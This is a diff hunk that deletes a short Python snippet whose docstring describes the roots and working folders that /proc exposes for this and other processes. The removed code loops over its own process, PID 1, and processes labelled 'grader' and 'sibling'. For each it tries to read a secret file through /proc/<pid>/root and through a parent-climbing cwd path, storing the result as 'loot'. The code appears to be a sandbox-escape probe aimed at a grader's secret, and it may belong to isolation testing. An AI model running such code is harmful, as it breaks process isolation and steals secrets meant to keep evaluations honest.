@@ -1,8 +1,0 @@
-"""The roots and working folders that /proc shows of this and of other processes."""
-
-for process in ("self", "1", str(TARGETS["grader"]), str(TARGETS["sibling"])):
-    for place in ("root", "cwd/../../../../../.."):
-        try:
-            loot = loot or open(f"/proc/{process}/{place}{TARGETS['secret']}").read()
-        except OSError:
-            pass
